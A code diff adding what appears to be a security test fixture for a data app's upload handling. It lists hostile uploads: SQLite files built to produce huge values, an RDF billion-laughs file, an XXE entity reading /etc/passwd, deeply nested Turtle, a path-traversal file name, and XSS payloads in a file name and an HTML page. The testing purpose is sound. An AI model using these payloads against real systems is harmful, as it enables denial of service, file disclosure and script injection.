+  const dir = mkdtempSync(path.join(tmpdir(), "mosaic-attack-"));
+  try {
+    const file = path.join(dir, "x.sqlite");
+    const db = new Database(file);
+    db.exec(sql);
+    db.close();
+    return readFileSync(file);
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
+}
+
+export const UPLOAD_ATTACKS: UploadAttack[] = [
+  {
+    category: "upload",
+    name: "a SQLite file whose view builds a 1 GB value",
+    kind: "SQL",
+    files: [{ name: "view-bomb.sqlite", bytes: () => sqliteFile("CREATE TABLE t (a TEXT); INSERT INTO t VALUES ('x'); CREATE VIEW v AS SELECT hex(zeroblob(500000000)) AS big FROM t;") }],
+    says: /contained/,
+  },
+  {
+    category: "upload",
+    name: "a SQLite file with a generated column that builds a huge value",
+    kind: "SQL",
+    files: [{ name: "generated.sqlite", bytes: () => sqliteFile("CREATE TABLE t (a TEXT, b TEXT GENERATED ALWAYS AS (printf('%.*c', 400000000, 'x')) VIRTUAL); INSERT INTO t (a) VALUES ('x');") }],
+    says: /contained/,
+  },
+  {
+    category: "upload",
+    name: "a SQLite file whose view calls a function queries may not",
+    kind: "SQL",
+    files: [{ name: "view-fn.sqlite", bytes: () => sqliteFile("CREATE TABLE t (a TEXT); INSERT INTO t VALUES ('x'); CREATE VIEW v AS SELECT sqlite_compileoption_get(0) AS opt, a FROM t;") }],
+    says: /contained/,
+  },
+  { category: "upload", name: "a text file named .sqlite", kind: "SQL", files: [{ name: "fake.sqlite", bytes: () => Buffer.from("name,country\nAda,UK\n".repeat(50)) }], says: /fake\.sqlite is not a SQLite database/ },
+  { category: "upload", name: "an RDF/XML billion-laughs file (lol.rdf)", kind: "SPARQL", files: [{ name: "lol.rdf", bytes: billionLaughs }], says: /lol\.rdf|could not be read|entit/i },
+  { category: "upload", name: "an RDF/XML external entity (XXE)", kind: "SPARQL", files: [{ name: "xxe.rdf", bytes: () => Buffer.from('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:ex="http://x/"><rdf:Description rdf:about="http://x/a"><ex:p>&x;</ex:p></rdf:Description></rdf:RDF>') }], says: /xxe\.rdf|contained/ },
+  { category: "upload", name: "Turtle nested 5,000 blank nodes deep", kind: "SPARQL", files: [{ name: "deep.ttl", bytes: () => Buffer.from(`<http://x/a> <http://x/p> ${"[ <http://x/p> ".repeat(5_000)}"x"${" ]".repeat(5_000)} .`) }], says: /deep\.ttl|contained/ },
+  { category: "upload", name: "a file name that climbs out of the storage folder", kind: "SPARQL", files: [{ name: "../../../../tmp/mosaic-escape.ttl", bytes: () => Buffer.from("<http://x/a> <http://x/p> \"x\" .") }], says: /contained|escape/ },
+  { category: "upload", name: "a file name with markup", kind: "SPARQL", files: [{ name: '<img src=x onerror="alert(1)">.ttl', bytes: () => Buffer.from("not turtle at all {{{") }], says: /<img src=x onerror="alert\(1\)">\.ttl/ },
+  { category: "upload", name: "Turtle that is not Turtle", kind: "SPARQL", files: [{ name: "broken.ttl", bytes: () => Buffer.from("<http://x/a> <http://x/p> .") }], says: /broken\.ttl: line 1/ },
+  { category: "upload", name: "an HTML document with scripts", kind: "DOCUMENTS", files: [{ name: "page.html", bytes: () => Buffer.from("<html><body><script>fetch('/api/me')</script><h1>Policy</h1><p onclick=alert(1)>Returns within 30 days.</p></body></html>") }], says: /contained/ },
+  { category: "upload", name: "two SQLite files at once", kind: "SQL", files: [{ name: "a.sqlite", bytes: () => Buffer.from("SQLite format 3\0") }, { name: "b.sqlite", bytes: () => Buffer.from("SQLite format 3\0") }], says: /exactly one SQLite database file/ },
+  { category: "upload", name: "an empty upload", kind: "SPARQL", files: [], says: /Upload at least one RDF file/ },
+];
+
+export const ATTACK_COUNTS = (): Record<AttackCategory, number> => ({
+  "sql-sqlite": queryAttacks("sql-sqlite").length,
+  "sql-postgres": queryAttacks("sql-postgres").length,
+  sparql: queryAttacks("sparql").length,
+  cypher: queryAttacks("cypher").length,
+  http: HTTP_ATTACKS.length,
+  upload: UPLOAD_ATTACKS.length,
+});
+
+/**
+ * Runs one query attack and returns what came of it: the typed error's message, "ok" for an empty
+ * answer, or the tail of the records' JSON (where a cut value's mark is). Fails the test when a refused
+ * case ran, or when anything but a typed backend error came out.
+ */
+export async function queryAttackOutcome(attack: QueryAttack, execute: () => Promise<{ records: unknown[] }>): Promise<string> {
+  // Loaded here, not at the top: the attack bench shares this file and must not load the test runner.
+  const { expect } = await import("vitest");
+  const { isBackendError, QueryRejectedError, QuerySyntaxError } = await import("@/lib/backends/errors");
+  try {
+    const result = await execute();
+    const outcome = result.records.length === 0 ? "ok" : JSON.stringify(result.records).slice(-2_000);
+    expect(attack.expect, `${attack.name} ran: ${outcome.slice(0, 200)}`).toBe("contained");
+    return outcome;
+  } catch (e) {
+    expect(isBackendError(e), String(e)).toBe(true);
+    if (attack.expect === "refused") expect(e instanceof QueryRejectedError || e instanceof QuerySyntaxError, (e as Error).message).toBe(true);
+    return (e as Error).message;
+  }
+}
